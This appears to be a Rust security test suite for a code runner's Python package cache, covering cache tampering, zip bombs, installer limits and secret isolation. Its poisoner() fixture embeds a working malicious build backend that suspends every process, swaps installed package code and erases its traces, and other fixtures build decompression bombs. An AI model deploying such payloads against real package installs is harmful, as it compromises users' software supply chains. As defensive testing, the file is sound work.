//! What is kept of packages: only what was stored is used, and only what the server has seen is filed under its hashes.

use std::fs;
use std::path::PathBuf;
use std::time::Duration;

use serde_json::{Value, json};

use super::registry::{Registry, bomb_wheel, packed_wheel, shorten_directory, tarball, wheel};
use super::{OLD, PROGRAM, command, installer, tiny};
use crate::mcp::client::Client;
use crate::support::{Hotcell, PATH, PATIENCE, Running, anyone, eventually, has};

fn ready() -> Option<Hotcell> {
    anyone().filter(|_| has("python3") && installer().is_some())
}

/// The only tree of a store, by the list of what is in each.
fn tree(hotcell: &Hotcell) -> PathBuf {
    let store = hotcell.place("home/.cache/hotcell/packages");
    let mut all = fs::read_dir(store.join("inventories"))
        .expect("a store")
        .flatten();
    store
        .join("trees")
        .join(all.next().expect("a tree").file_name())
}

#[test]
fn a_tree_that_is_not_what_was_stored_is_installed_again() {
    let Some(hotcell) = ready() else { return };
    let registry = Registry::start();
    registry.add("tinything", "1.0", OLD, &tiny("1.0"));
    let run = || {
        let record = super::json(&hotcell, &registry, &["-c", PROGRAM]);
        assert_eq!(record["stdout"], "1.0\n", "{record}");
        record["packages"]["cached"].as_bool().expect("a fact")
    };
    run();
    // Control: untouched, it is used.
    assert!(run());
    type Change = fn(&PathBuf);
    let changes: [Change; 3] = [
        |it| fs::write(it.join("tinything/__init__.py"), "VERSION = 'evil'\n").expect("ours"),
        |it| fs::write(it.join("sitecustomize.py"), "print('evil')\n").expect("ours"),
        |it| fs::remove_dir_all(it.join("tinything")).expect("ours"),
    ];
    for (at, change) in changes.iter().enumerate() {
        change(&tree(&hotcell));
        assert!(!run(), "change {at}: what was changed was run");
        assert!(run(), "change {at}");
    }
}

#[test]
fn packages_that_unpack_to_far_more_than_they_are_are_refused() {
    let Some(hotcell) = ready() else { return };
    let registry = Registry::start();
    let bomb = bomb_wheel("tinything", "1.0", 3 << 30);
    assert!(bomb.len() < 4 << 20, "it is small as a file");
    registry.add("tinything", "1.0", OLD, &bomb);
    let record = super::json(&hotcell, &registry, &["-c", PROGRAM]);
    assert_eq!(record["error"]["kind"], "package_install", "{record}");
    let message = record["error"]["message"].as_str().expect("words");
    // Whoever names the file has read its directory, and has passed nothing of it on.
    assert!(message.contains("any.whl: they unpack to 3"), "{message}");
    // One that says less than it unpacks to is refused by the installer, or by what it came to.
    let zeros = "0".repeat(200 << 20);
    let files = [
        ("otherthing/zeros.txt", zeros.as_str()),
        ("otherthing/__init__.py", ""),
    ];
    let mut liar = packed_wheel("otherthing", "1.0", &files);
    assert!(liar.len() < 1 << 20, "it is small as a file");
    shorten_directory(&mut liar, 200 << 20);
    registry.add("otherthing", "1.0", OLD, &liar);
    let record = super::json(&hotcell, &registry, &["-c", "import otherthing"]);
    assert_eq!(record["status"], "failed", "{record}");
    let message = record["error"]["message"].as_str().expect("words");
    assert!(
        message.starts_with("cannot install `otherthing`"),
        "{message}"
    );
    let store = hotcell.place("home/.cache/hotcell/packages");
    for folder in ["inventories", "staging"] {
        let left = fs::read_dir(store.join(folder)).expect("a folder").count();
        assert_eq!(left, 0, "{folder}");
    }
    // Control: the same of another package that is as large as it unpacks to is installed.
    let mut random = 7_u32;
    let noise: String = std::iter::repeat_with(|| {
        random = random.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        format!("{random:08x}")
    })
    .take(1 << 18)
    .collect();
    let noise = format!("VERSION = 'large'\nNOISE = '{noise}'\n");
    let plain = wheel("plainthing", "1.0", &[("plainthing.py", &noise)], &[]);
    registry.add("plainthing", "1.0", OLD, &plain);
    let code = "import plainthing; print(plainthing.VERSION)";
    let record = super::json(&hotcell, &registry, &["-c", code]);
    assert_eq!(record["stdout"], "large\n", "{record}");
}

/// A source package whose build leaves a process behind that stops the installer when `tinything` is there, exchanges it, and
/// removes every trace of itself.
fn poisoner() -> Vec<u8> {
    let backend = r#"
import glob, os, shutil, signal, time, zipfile
def lurk():
    os.setsid()
    tree = '/workspace/out/tree'
    while not glob.glob(tree + '/tinything/__init__.py') or not glob.glob(tree + '/poisoner-1.0.dist-info/RECORD'):
        pass
    own = os.getpid()
    others = [int(it) for it in os.listdir('/proc') if it.isdigit() and int(it) not in (1, own)]
    for pid in others:
        try: os.kill(pid, signal.SIGSTOP)
        except OSError: pass
    os.unlink(tree + '/tinything/__init__.py')
    with open(tree + '/tinything/__init__.py', 'w') as file:
        file.write("VERSION = 'poisoned'\n")
    shutil.rmtree(tree + '/tinything/__pycache__', ignore_errors=True)
    shutil.rmtree(tree + '/poisoner-1.0.dist-info')
    for pid in others:
        try: os.kill(pid, signal.SIGCONT)
        except OSError: pass
    while True:
        shutil.rmtree(tree + '/poisoner-1.0.dist-info', ignore_errors=True)
def build_wheel(folder, settings=None, metadata=None):
    if os.fork() == 0:
        null = os.open('/dev/null', os.O_RDWR)
        for fd in 0, 1, 2: os.dup2(null, fd)
        if os.fork() == 0: lurk()
        os._exit(0)
    name = 'poisoner-1.0-py3-none-any.whl'
    with zipfile.ZipFile(os.path.join(folder, name), 'w') as wheel:
        wheel.writestr('poisoner.py', '')
        wheel.writestr('poisoner-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\nName: poisoner\nVersion: 1.0\nRequires-Dist: tinything\n')
        wheel.writestr('poisoner-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n')
        wheel.writestr('poisoner-1.0.dist-info/RECORD', '')
    return name
"#;
    tarball(&[
        ("poisoner-1.0/pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = 'evil'\nbackend-path = ['.']\n[project]\nname = 'poisoner'\nversion = '1.0'\ndependencies = ['tinything']\n".to_owned()),
        ("poisoner-1.0/evil.py", backend.to_owned()),
        ("poisoner-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: poisoner\nVersion: 1.0\nRequires-Dist: tinything\n".to_owned()),
    ])
}

#[test]
fn a_set_that_an_install_script_exchanged_is_nobody_else_s() {
    let Some(hotcell) = ready() else { return };
    let registry = Registry::start();
    registry.add("tinything", "1.0", OLD, &tiny("1.0"));
    registry.add_file("poisoner", "poisoner-1.0.tar.gz", OLD, &poisoner());
    // The genuine lock, from a store of its own.
    let genuine = {
        let Some(other) = anyone() else { return };
        let record = super::json(&other, &registry, &["-c", PROGRAM]);
        let lock = record["packages"]["lock"].as_str().expect("a lock");
        hotcell.write("home/lock.txt", lock)
    };
    let build = |allowed: bool| {
        let text = format!("[packages]\nbuild = {allowed}\n");
        hotcell.write("home/.config/hotcell/config.toml", text);
    };
    let run = |arguments: &[&str]| -> Value {
        let mut command = command(&hotcell, &registry, installer());
        command.env(
            "PATH",
            format!("{}/bin:{PATH}", installer().expect("uv").display()),
        );
        command
            .args(["run", "--json", "-l", "python"])
            .args(arguments);
        Running::start(&mut command).finish().json()
    };
    build(true);
    // Control: the attack itself works, for whoever asked for the attacker's package. On a busy machine it may come too late; each of these is
    // installed anew.
    let is_poisoned = (0..20).any(|at| {
        let asked = format!("poisoner>=0.{at}");
        let own = run(&["--package", &asked, "-c", PROGRAM]);
        own["stdout"] == "poisoned\n"
    });
    assert!(is_poisoned);
    let lock = genuine.to_str().expect("a path");
    for allowed in [true, false] {
        build(allowed);
        for arguments in [&["--lock", lock, "-c", PROGRAM][..], &["-c", PROGRAM]] {
            let record = run(arguments);
            assert_eq!(record["stdout"], "1.0\n", "build = {allowed}: {record}");
        }
    }
}

#[test]
fn an_installer_in_a_folder_of_many_things_is_used_and_a_missing_one_says_why() {
    let Some(hotcell) = ready() else { return };
    let registry = Registry::start();
    registry.add("tinything", "1.0", OLD, &tiny("1.0"));
    let run = |path: String| {
        let mut command = command(&hotcell, &registry, None);
        // Nothing can be fetched from here.
        command
            .env("PIP_INDEX_URL", "http://127.0.0.1:9/simple")
            .env("PATH", path);
        let arguments = ["run", "--json", "-l", "python", "-c", PROGRAM];
        Running::start(command.args(arguments)).finish().json()
    };
    let missing = run(PATH.to_owned());
    let message = missing["error"]["message"].as_str().expect("words");
    assert!(
        message.starts_with("cannot install packages without uv: "),
        "{message}"
    );
    assert!(message.contains("127.0.0.1:9"), "{message}");

    // As `curl … | sh` puts it: beside all else that a user has there.
    let bin = hotcell.make_folder("home/.local/bin");
    let secret = hotcell.write("home/.local/share/secret", "canary");
    let uv = installer().expect("uv").join("bin/uv");
    fs::copy(uv, bin.join("uv")).expect("a copy");
    crate::support::open_to_all(&bin.join("uv"));
    let found = run(format!("{}:{PATH}", bin.display()));
    assert_eq!(found["stdout"], "1.0\n", "{found}");
    let code = format!(
        "import os; print(os.path.exists({:?}))",
        secret.to_str().expect("text")
    );
    let seen = super::json(&hotcell, &registry, &["-c", &code]);
    assert_eq!(seen["stdout"], "False\n", "{seen}");
}

#[test]
fn two_installers_work_at_a_time_and_the_others_wait_for_their_turn() {
    let Some(hotcell) = ready() else { return };
    let registry = Registry::start();
    let names = ["firstthing", "secondthing", "thirdthing", "fourththing"];
    for name in names {
        let file = format!("{name}/__init__.py");
        let files = [(file.as_str(), "VALUE = 7\n")];
        registry.add(name, "1.0", OLD, &wheel(name, "1.0", &files, &[]));
    }
    registry.server.with(|state| state.held = ".whl".to_owned());
    let mut command = command(&hotcell, &registry, installer());
    command.args(["serve", "--max-runs", "8"]);
    let mut client = Client::of(command);
    client.begin();
    let ask = |name: &&str| json!({ "name": "run", "arguments": { "language": "python", "code": format!("import {name}; print({name}.VALUE)") } });
    let asked: Vec<u64> = names
        .iter()
        .map(|name| client.post("tools/call", ask(name)))
        .collect();
    // Whose files are asked for: one installer each.
    let at_work = || {
        let asked = registry.server.with(|state| state.asked.clone());
        let is_asked = |name: &&&str| {
            let mut paths = asked.iter().map(|(path, _)| path);
            paths.any(|path| path.contains(**name) && path.ends_with(".whl"))
        };
        names.iter().filter(is_asked).count()
    };
    assert!(eventually(PATIENCE, || at_work() == 2), "{}", at_work());
    assert!(
        !eventually(Duration::from_secs(2), || at_work() > 2),
        "{}",
        at_work()
    );
    registry.server.with(|state| state.held.clear());
    for id in asked {
        let facts = crate::raw::record(&client.answer(id)["result"]);
        assert_eq!(facts["stdout"], "7\n", "{facts}");
    }
    // Control: all four were installed after all.
    assert_eq!(at_work(), 4);
}
